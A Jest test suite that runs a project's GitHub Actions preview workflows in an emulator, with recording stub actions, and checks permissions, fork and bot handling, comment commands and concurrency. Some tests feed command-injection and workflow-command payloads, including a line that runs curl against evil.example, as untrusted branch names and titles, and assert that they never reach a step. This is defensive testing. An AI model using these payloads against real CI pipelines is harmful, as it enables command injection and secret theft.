/**
 * The workflows of previews as the runner plays them: the real YAML of .github/workflows, called by the real callers of
 * examples/workflows, with actions in place of ours that write down what they are given.
 */
import { execFileSync } from 'node:child_process'
import { cpSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import { parse } from 'yaml'
import { evaluate, type Json } from '../../emulator/runner/workflow/expressions.ts'
import { actionNames } from '../../scripts/action-manifest.ts'
import { createRunnerHarness, type RunnerHarness } from '../support/emulator/runner-harness.ts'

const OUTPUTS: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'preview-announce': { state: 'building' },
  'build-from-buildpack': { image: 'oci:/tmp/image' },
  'push-ecr': { image: '1.dkr.ecr.eu-west-1.amazonaws.com/my-app@sha256:00' },
  'preview-env-up': { state: 'ready', url: 'https://my-app-pr-7.example.com' },
}
/** Writes down which action ran with which inputs, and whether it could have asked for an OIDC token. */
const RECORDER = `
const { appendFileSync } = require('node:fs')
const inputs = Object.fromEntries(Object.entries(process.env).filter(([name]) => name.startsWith('INPUT_')).map(([name, value]) => [name.slice(6).toLowerCase(), value]))
appendFileSync(process.env.RECORD, JSON.stringify({ action: ACTION, inputs, oidc: process.env.ACTIONS_ID_TOKEN_REQUEST_URL !== undefined }) + '\\n')
const { fails, ...commanded } = JSON.parse(process.env.COMMANDED || '{}')[ACTION] ?? {}
for (const [name, value] of Object.entries({ ...OUTPUTS, ...commanded })) appendFileSync(process.env.GITHUB_OUTPUT, name + '=' + value + '\\n')
if (fails !== undefined) process.exitCode = 1
`

interface Recorded {
  readonly action: string
  readonly inputs: Readonly<Record<string, string>>
  readonly oidc: boolean
}

let harness: RunnerHarness
let source: string
let record: string
let directory: string
let head: string

beforeAll(async () => {
  harness = await createRunnerHarness()
  source = harness.files({ 'README.md': 'the suite' })
  cpSync('.github/workflows', join(source, '.github/workflows'), { recursive: true })
  for (const action of actionNames()) {
    const manifest: { runs: unknown } = parse(readFileSync(`actions/${action}/action.yml`, 'utf8'))
    manifest.runs = { using: 'node24', main: 'record.js' }
    mkdirSync(join(source, 'actions', action), { recursive: true })
    writeFileSync(join(source, 'actions', action, 'action.yml'), JSON.stringify(manifest))
    const text = RECORDER.replaceAll('ACTION,', `'${action}',`)
      .replaceAll('[ACTION]', `['${action}']`)
      .replace('...OUTPUTS', `...${JSON.stringify(OUTPUTS[action] ?? {})}`)
    writeFileSync(join(source, 'actions', action, 'record.js'), text)
  }
  directory = harness.repository({
    ...Object.fromEntries(
      readdirSync('examples/workflows')
        .filter((file) => file.startsWith('preview'))
        .map((file) => [`.github/workflows/${file}`, readFileSync(`examples/workflows/${file}`, 'utf8')]),
    ),
    '.github/workflows/preview-labeled.yml': readFileSync('examples/workflows/preview.yml', 'utf8').replace(
      '      app: my-app\n',
      '      app: my-app\n      label: preview\n',
    ),
    Procfile: 'web: node server.js\n',
  })
  head = execFileSync('git', ['-C', directory, 'rev-parse', 'HEAD'], { encoding: 'utf8' }).trim()
  record = join(source, 'record.jsonl')
})
afterAll(() => harness.dispose())
beforeEach(() => rmSync(record, { force: true }))

interface Play {
  readonly payload?: { readonly [key: string]: Json }
  readonly commanded?: Readonly<Record<string, Readonly<Record<string, string>>>>
}

async function play(file: string, name: string, { payload = {}, commanded = {} }: Play = {}) {
  const result = await harness.run(
    {},
    {
      repositoryDir: directory,
      workflowPath: `.github/workflows/${file}`,
      event: { name, payload },
      actionSources: { 'renga-dev/renga': source },
      env: { RECORD: record, COMMANDED: JSON.stringify(commanded) },
    },
  )
  const calls = (() => {
    try {
      return readFileSync(record, 'utf8')
    } catch {
      return '' // No action ran.
    }
  })()
  const recorded: readonly Recorded[] = calls
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line))
  const log = result.events.map((event) => JSON.stringify(event)).join('\n')
  return { result, recorded, actions: recorded.map(({ action }) => action), log }
}

const repository = (id: number) => ({ id, full_name: id === 1 ? 'acme/shop' : 'mallory/shop' })
const pull = (change: { readonly [key: string]: Json } = {}, action = 'synchronize') => ({
  action,
  number: 7,
  pull_request: {
    number: 7,
    state: 'open',
    merged: false,
    draft: false,
    title: 'A change',
    user: { login: 'octocat', type: 'User' },
    head: { ref: 'feature', sha: head, repo: repository(1) },
    base: { ref: 'main', sha: head, repo: repository(1) },
    ...change,
  },
})

describe('a push to a pull request', () => {
  it('builds its head, pushes the image under its number, and brings the preview up', async () => {
    const { result, recorded, actions } = await play('preview.yml', 'pull_request', { payload: pull() })
    expect(result.conclusion).toBe('success')
    expect(actions).toEqual(['preview-announce', 'build-from-buildpack', 'push-ecr', 'preview-env-up'])
    // What only talks to GitHub has no way to AWS.
    expect(recorded.map(({ oidc }) => oidc)).toEqual([false, true, true, true])
    expect(recorded[0]?.inputs).toMatchObject({ app: 'my-app', operation: 'building', 'pull-request': '7' })
    expect(recorded[1]?.inputs).toMatchObject({ environment: 'review' })
    expect(recorded[2]?.inputs).toMatchObject({
      repository: 'my-app-previews',
      tags: `pr-7-${head}`,
      'role-to-assume': 'arn:aws:iam::123456789012:role/my-app-preview-build',
    })
    expect(recorded[3]?.inputs).toMatchObject({
      app: 'my-app',
      'pull-request': '7',
      sha: head,
      'approved-sha': '',
      image: OUTPUTS['push-ecr']?.['image'],
      'role-to-assume': 'arn:aws:iam::123456789012:role/my-app-preview',
    })
  })

  it.each<[string, { readonly [key: string]: Json }]>([
    ['from a fork', { head: { ref: 'main', sha: 'f'.repeat(40), repo: repository(2) } }],
    ['from a fork that was deleted', { head: { ref: 'main', sha: 'f'.repeat(40), repo: null } }],
    ['of a bot', { user: { login: 'dependabot[bot]', type: 'Bot' } }],
  ])('%s runs nothing of it, and says why', async (_, change) => {
    const { result, actions } = await play('preview.yml', 'pull_request', { payload: pull(change) })
    expect(result.conclusion).toBe('success')
    expect(actions).toEqual([])
    const ran = result.jobs.filter(({ conclusion }) => conclusion !== 'skipped')
    expect(ran.map(({ name }) => name)).toEqual(['preview / No preview'])
    expect(JSON.stringify(ran)).toContain('/preview up')
  })
})

describe('a build that fails', () => {
  const told = JSON.stringify({ reason: '$(id) `id` ${{ github.token }}', lines: ["'; curl evil.example #"] })

  it('is said on the pull request, as data', async () => {
    const { result, recorded, actions } = await play('preview.yml', 'pull_request', {
      payload: pull(),
      commanded: { 'build-from-buildpack': { fails: 'yes', failure: told } },
    })
    expect(result.conclusion).toBe('failure')
    expect(actions).toEqual(['preview-announce', 'build-from-buildpack', 'preview-announce'])
    expect(recorded.at(-1)).toMatchObject({
      oidc: false,
      inputs: { operation: 'build-failed', failure: told, sha: head },
    })
  })

  it('after a command is said there too', async () => {
    const { recorded, actions } = await play('preview-command.yml', 'issue_comment', {
      payload: {
        action: 'created',
        issue: { number: 7, pull_request: { url: 'x' } },
        comment: { id: 1, body: '/preview up', user: { login: 'maria', type: 'User' } },
      },
      commanded: {
        'preview-command': { command: 'up', 'pull-request': '7', sha: head, 'approved-sha': head },
        'build-from-buildpack': { fails: 'yes', failure: told },
      },
    })
    expect(actions).toEqual([
      'preview-command',
      'preview-announce',
      'build-from-buildpack',
      'preview-announce',
    ])
    expect(recorded.at(-1)?.inputs).toMatchObject({
      operation: 'build-failed',
      failure: told,
      sha: head,
      'approved-sha': head,
      bots: 'allow',
      drafts: 'allow',
    })
  })
})

describe('a pull request that gets no preview', () => {
  it('is not built, and what it had is taken down while it is open', async () => {
    const { result, recorded, actions } = await play('preview.yml', 'pull_request', {
      payload: pull(),
      commanded: { 'preview-announce': { state: 'refused' } },
    })
    expect(result.conclusion).toBe('success')
    expect(actions).toEqual(['preview-announce', 'preview-env-down'])
    expect(recorded[1]?.inputs).toMatchObject({ 'pull-request': '7', 'while-open': 'true' })
  })
})

describe('labels', () => {
  const labeled = (action: string, label: string) => ({
    ...pull({}, action),
    label: { name: label },
  })
  const UP = ['preview-announce', 'build-from-buildpack', 'push-ecr', 'preview-env-up']

  it.each([
    ['labeled', 'Preview', UP],
    ['unlabeled', 'bug', []],
  ])('%s %j', async (action, label, expected) => {
    const { result, actions } = await play('preview-labeled.yml', 'pull_request', {
      payload: labeled(action, label),
    })
    expect(['success', 'skipped']).toContain(result.conclusion)
    expect(actions).toEqual(expected)
  })

  it('start nothing where none is required', async () => {
    const { actions } = await play('preview.yml', 'pull_request', { payload: labeled('labeled', 'bug') })
    expect(actions).toEqual([])
  })

  it('start the example', () => {
    const { on }: { on: { pull_request: { types: readonly string[] } } } = parse(
      readFileSync('examples/workflows/preview.yml', 'utf8'),
    )
    expect(on.pull_request.types).toEqual(expect.arrayContaining(['labeled', 'unlabeled']))
  })
})

describe('the end of a pull request', () => {
  it.each([false, true])('takes the preview down without a checkout (merged: %s)', async (merged) => {
    const payload = pull({ state: 'closed', merged }, 'closed')
    const { result, recorded, actions, log } = await play('preview-close.yml', 'pull_request_target', {
      payload,
    })
    expect(result.conclusion).toBe('success')
    expect(actions).toEqual(['preview-env-down'])
    expect(recorded[0]?.inputs).toMatchObject({ app: 'my-app', 'pull-request': '7', 'while-open': 'false' })
    expect(log).not.toContain('actions/checkout')
  })

  it('of a fork is taken down too: a maintainer may have approved it', async () => {
    const change = { state: 'closed', head: { ref: 'main', sha: 'f'.repeat(40), repo: repository(2) } }
    const { actions } = await play('preview-close.yml', 'pull_request_target', {
      payload: pull(change, 'closed'),
    })
    expect(actions).toEqual(['preview-env-down'])
  })
})

describe('a comment', () => {
  const comment = (body: string, onPull = true) => ({
    action: 'created',
    issue: { number: 7, ...(onPull ? { pull_request: { url: 'x' } } : { pull_request: null }) },
    comment: { id: 1, body, user: { login: 'maria', type: 'User' } },
  })
  const outputs = (command: string, approved = '') => ({
    'preview-command': { command, 'pull-request': '7', sha: head, 'approved-sha': approved },
  })

  it.each<[string, readonly string[]]>([
    ['up', ['preview-command', 'preview-announce', 'build-from-buildpack', 'push-ecr', 'preview-env-up']],
    ['wake', ['preview-command', 'preview-env-up']],
    ['keep', ['preview-command', 'preview-env-up']],
    ['reset-db', ['preview-command', 'preview-env-up']],
    ['down', ['preview-command', 'preview-env-down']],
    ['', ['preview-command']],
  ])('that means %j runs %j', async (command, expected) => {
    const { result, recorded, actions } = await play('preview-command.yml', 'issue_comment', {
      payload: comment('/preview whatever'),
      commanded: outputs(command),
    })
    expect(result.conclusion).toBe('success')
    expect(actions).toEqual(expected)
    // Who reads what a stranger has written has no way to AWS.
    expect(recorded[0]).toMatchObject({ action: 'preview-command', oidc: false })
    const last = recorded.at(-1)
    if (last?.action === 'preview-env-up')
      expect(last.inputs).toMatchObject({ command, 'pull-request': '7', sha: head })
    if (last?.action === 'preview-env-down') expect(last.inputs).toMatchObject({ 'while-open': 'true' })
  })

  it('hands the approval of a fork on with the commit that is built', async () => {
    const { recorded } = await play('preview-command.yml', 'issue_comment', {
      payload: comment(`/preview up ${'f'.repeat(40)}`),
      commanded: outputs('up', head),
    })
    expect(recorded.at(-1)?.inputs).toMatchObject({ sha: head, 'approved-sha': head })
    // Whoever may command has asked for it: drafts and bots get what preview.yml promises them.
    for (const { action, inputs } of recorded)
      if (/preview-(announce|env-up)$/.test(action))
        expect(inputs).toMatchObject({ bots: 'allow', drafts: 'allow', 'approved-sha': head })
  })

  it.each([
    ['that is no command', comment('Nice! /preview up')],
    ['on an issue', comment('/preview up', false)],
  ])('%s starts no job', async (_, payload) => {
    const { actions } = await play('preview-command.yml', 'issue_comment', { payload })
    expect(actions).toEqual([])
  })
})

it.each<[string, string, { readonly [key: string]: Json }, object]>([
  ['hourly', 'schedule', { schedule: '17 * * * *' }, { full: 'false', 'dry-run': 'false' }],
  ['weekly, of everything', 'schedule', { schedule: '43 4 * * 1' }, { full: 'true', 'dry-run': 'false' }],
])('the sweep runs %s', async (_, name, payload, inputs) => {
  const { recorded } = await play('preview-sweep.yml', name, { payload })
  expect(recorded).toMatchObject([{ action: 'preview-env-sweep', oidc: true, inputs }])
})

it.each([
  '$(touch /tmp/pwned)',
  '`id`',
  "'; curl evil.example; '",
  '"; exit 1 #',
  '${{ github.token }}',
  '::set-output name=url::https://evil.example',
  '%0A::add-mask::x',
  'a\n::error::forged',
  '- run: id\n  shell: bash',
])('a branch and a title like %j reach no step of the workflows', async (payload) => {
  const change = { title: payload, body: payload, head: { ref: payload, sha: head, repo: repository(1) } }
  const { result, recorded } = await play('preview.yml', 'pull_request', { payload: pull(change) })
  expect(result.conclusion).toBe('success')
  expect(JSON.stringify(recorded)).not.toContain(JSON.stringify(payload).slice(1, -1))
})

interface Job {
  readonly concurrency?: { readonly group: string; readonly 'cancel-in-progress': boolean }
  readonly permissions?: Readonly<Record<string, string>>
  readonly steps: readonly {
    readonly uses?: string
    readonly run?: string
    readonly with?: Readonly<Record<string, string>>
  }[]
}

describe.each(['preview.yml', 'preview-command.yml', 'preview-sweep.yml'])('%s', (file) => {
  const {
    jobs,
    permissions,
  }: { readonly jobs: Readonly<Record<string, Job>>; readonly permissions: object } = parse(
    readFileSync(`.github/workflows/${file}`, 'utf8'),
  )
  const all = Object.entries(jobs)

  it('grants nothing but what each job says', () => {
    expect(permissions).toEqual({})
    for (const [name, job] of all) expect([name, job.permissions]).toEqual([name, expect.anything()])
  })

  it('locks on the number of the pull request, never on a ref', () => {
    const groups = all.map(([, { concurrency }]) => concurrency?.group ?? '')
    expect(groups.join()).not.toMatch(/github\.(ref|head_ref|sha)/)
    const changing = all.filter(([, { steps }]) =>
      steps.some(({ uses }) => /preview-env-(up|down)$/.test(uses ?? '')),
    )
    for (const [, { concurrency }] of changing) {
      expect(concurrency?.group).toMatch(
        /^renga-preview-\$\{\{ inputs\.app \}\}-\$\{\{ .*(number|pull-request) \}\}$/,
      )
      expect(concurrency?.['cancel-in-progress']).toBe(false)
    }
  })

  it('tells a cancelled build from a failed one', () => {
    const step = jobs['build-failed']?.steps[0]
    if (step === undefined) return expect(file).toBe('preview-sweep.yml')
    const expression = /^\$\{\{ (.*) \}\}$/.exec(step.with?.['operation'] ?? '')?.[1] ?? ''
    const told = ['failure', 'cancelled', 'skipped'].map((result) =>
      evaluate(expression, { contexts: { needs: { build: { result } } } }, ['needs']),
    )
    expect(told).toEqual(['build-failed', 'build-cancelled', 'build-failed'])
  })

  it('puts no expression into a shell', () => {
    for (const [, { steps }] of all) for (const { run = '' } of steps) expect(run).not.toContain('${{')
  })

  it('checks nothing out where a preview is taken down', () => {
    for (const [, { steps, permissions: granted }] of all) {
      if (!steps.some(({ uses }) => /preview-env-(down|sweep)$/.test(uses ?? ''))) continue
      expect(steps).toHaveLength(1)
      expect(granted).not.toHaveProperty('contents')
    }
  })
})
